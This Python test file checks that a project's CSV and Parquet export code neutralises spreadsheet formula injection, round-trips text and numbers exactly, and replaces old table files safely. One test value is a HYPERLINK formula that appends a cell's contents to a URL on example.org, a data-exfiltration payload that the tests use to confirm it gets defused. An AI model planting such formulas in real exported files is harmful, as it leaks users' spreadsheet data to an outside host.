"""Tables as files: a spreadsheet runs nothing of them, and what is read back is what was written."""

import csv
import io
from pathlib import Path

import pandas as pd
import pyarrow.parquet
import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from sourcebook import exports, load
from sourcebook.cli import main
from sourcebook.corpus import open_tables
from sourcebook.corpus.schema import COLUMNS
from sourcebook.tablefiles import csv_bytes, from_csv, parquet_bytes

HOSTILE = '=HYPERLINK("http://example.org/?"&A1,"look")'
TEXT = {"said": "str", "n": "int64"}


def said(*texts: str | None) -> pd.DataFrame:
    return pd.DataFrame({"said": pd.Series(texts, dtype="str"), "n": range(len(texts))})


def as_rows(data: bytes) -> list[list[str]]:
    """Read CSV as another program would: the standard library's reader, no option set."""
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        pytest.param(HOSTILE, f"'{HOSTILE}", id="a formula"),
        pytest.param("+1 234", "'+1 234", id="a plus"),
        pytest.param("-5 %", "'-5 %", id="a minus"),
        pytest.param("@SUM(A1)", "'@SUM(A1)", id="an at sign"),
        pytest.param("\t=1+1", "'\t=1+1", id="a tab"),
        pytest.param("\r=1+1", "'\r=1+1", id="a carriage return"),
        pytest.param("\n=1+1", "'\n=1+1", id="a line feed"),
        pytest.param("＝1+1", "'＝1+1", id="a full-width sign"),
        pytest.param("＠x", "'＠x", id="a full-width at sign"),
        pytest.param("=", "=", id="an operator alone runs nothing"),
        pytest.param("'=1", "''=1", id="an apostrophe of its own is kept apart"),
        pytest.param("'tis", "'tis", id="an apostrophe before a word"),
        pytest.param("<=", "<=", id="a comparison"),
        pytest.param("a=1", "a=1", id="a sign further on"),
    ],
)
def test_no_cell_runs_as_a_formula(text: str, shown: str) -> None:
    assert as_rows(csv_bytes(said(text))) == [["said", "n"], [shown, "0"]]


def test_nor_does_a_header() -> None:
    assert as_rows(csv_bytes(pd.DataFrame({"=1+1": ["x"]})))[0] == ["'=1+1"]


def test_the_bytes_are_those_that_a_spreadsheet_expects() -> None:
    frame = said('Zürich, "so"\r\nthen\ragain', None, "").assign(n=[-1, 2, 3], share=[0.5, None, 1e21])
    assert csv_bytes(frame) == (
        b'\xef\xbb\xbf"said","n","share"\n"Z\xc3\xbcrich, ""so""\r\nthen\ragain",-1,0.5\n,2,\n"",3,1e+21\n'
    )


@given(st.lists(st.none() | st.text(st.characters(codec="utf-8")), min_size=1, max_size=5))
@example(["\0", "'", "''+x", '"', ",", "\r", "a\rb", None, ""])
def test_any_text_is_read_back_as_it_was(texts: list[str | None]) -> None:
    frame = said(*texts)
    data = csv_bytes(frame)
    pd.testing.assert_frame_equal(from_csv(data, TEXT), frame)
    rows = as_rows(data)[1:]
    assert [row[1] for row in rows] == [str(n) for n in range(len(texts))], "a row was broken"
    assert not [cell for cell, _ in rows if len(cell) > 1 and cell[0] in "=+-@\t\r\n＝＋－＠"]
    pd.testing.assert_frame_equal(pd.read_parquet(io.BytesIO(parquet_bytes(frame))), frame)


@given(st.lists(st.floats(allow_infinity=False, allow_nan=False), min_size=1))
def test_any_number_is_read_back_to_the_last_digit(numbers: list[float]) -> None:
    frame = pd.DataFrame({"value": numbers})
    pd.testing.assert_frame_equal(from_csv(csv_bytes(frame), {"value": "float64"}), frame, check_exact=True)


def test_a_cell_longer_than_a_block_of_the_reader_is_read_back() -> None:
    frame = said("rain\n" * 600_000, "sun")
    pd.testing.assert_frame_equal(from_csv(csv_bytes(frame), TEXT), frame)


@pytest.mark.parametrize("form", exports.FORMS)
def test_saved_tables_are_the_tables(seeds, tmp_path: Path, form: str) -> None:
    exports.write_tables(seeds, tmp_path, (form,))
    read = open_tables(tmp_path)
    for name in ("sources", "counts", "facts"):
        pd.testing.assert_frame_equal(getattr(read, name), getattr(seeds, name)[list(COLUMNS[name])], obj=name)


def test_a_csv_that_other_programs_wrote_anew_is_read_as_well(folder, tmp_path: Path) -> None:
    corpus = load(folder({"a.txt": "It rained for 3 days. It cost $5 million."}))
    exports.write_tables(corpus, tmp_path / "was", ("csv",))
    for path in (tmp_path / "was").glob("*.csv"):
        pd.read_csv(path).to_csv(path, index=False)  # no byte order mark, few quotes, True and False
    read = open_tables(tmp_path / "was")
    assert list(read.facts["surface"]) == ["3 days", "$5 million"] == list(corpus.facts["surface"])
    assert list(read.facts["value"]) == [3, 5_000_000]


def test_a_parquet_table_of_the_seeds_takes_less_than_the_writer_s_default(seeds) -> None:
    frame, default = seeds.facts, io.BytesIO()
    frame.to_parquet(default, index=False)
    assert len(parquet_bytes(frame)) < 0.6 * len(default.getvalue())
    column = pyarrow.parquet.ParquetFile(io.BytesIO(parquet_bytes(frame))).metadata.row_group(0).column(0)
    assert column.compression == "ZSTD"


def test_the_same_tables_are_the_same_bytes(seeds) -> None:
    for make in exports.FORMS.values():
        assert make(seeds.facts) == make(seeds.facts.copy())


def test_both_forms_and_the_bibliography_are_written_at_once(folder, tmp_path: Path, capsys) -> None:
    articles = folder({"a.txt": "It rained."})
    assert main(["tables", str(articles), "-o", str(tmp_path / "out"), "--format", "both"]) == 0
    names = {path.name for path in (tmp_path / "out").iterdir()}
    assert {"facts.csv", "facts.parquet", "sources.bib"} <= names
    assert f"{(len(names) - 1) // 2} tables and a bibliography" in capsys.readouterr().out


@pytest.mark.parametrize(("before", "after"), [("parquet", "csv"), ("csv", "parquet")])
def test_tables_written_in_another_form_take_the_place_of_older_ones(
    folder, tmp_path: Path, before: str, after: str
) -> None:
    out = tmp_path / "out"
    exports.write_tables(load(folder({"a.txt": "It rained for 3 days."}, "was")), out, (before,))
    for mine in (f"mine.{before}", "notes.txt"):
        (out / mine).write_text("mine")
    exports.write_tables(load(folder({"a.txt": "It rained for 9 days."}, "is")), out, (after,))
    assert list(open_tables(out).facts["surface"]) == ["9 days"]
    assert sorted(path.name for path in out.iterdir() if path.suffix != f".{after}") == [f"mine.{before}", "notes.txt"]


def test_older_tables_stay_until_the_new_ones_are_complete(folder, tmp_path: Path, monkeypatch) -> None:
    corpus, out = load(folder({"a.txt": "It rained for 3 days."})), tmp_path / "out"
    written = {path: path.read_bytes() for path in exports.write_tables(corpus, out, ("parquet",))}

    def full(path: Path, content: bytes) -> None:
        if path.stem == "facts":
            raise OSError("no space left")

    monkeypatch.setattr(exports, "write", full)
    with pytest.raises(OSError, match="no space left"):
        exports.write_tables(corpus, out, ("csv",))
    assert {path: path.read_bytes() for path in out.iterdir()} == written


def test_a_file_of_a_user_s_own_that_is_called_as_a_table_is_not_deleted(folder, tmp_path: Path) -> None:
    (tmp_path / "terms.csv").write_text("mine")
    exports.write_tables(load(folder({"a.txt": "It rained."})), tmp_path, ("parquet",))
    assert (tmp_path / "terms.csv").read_text() == "mine"
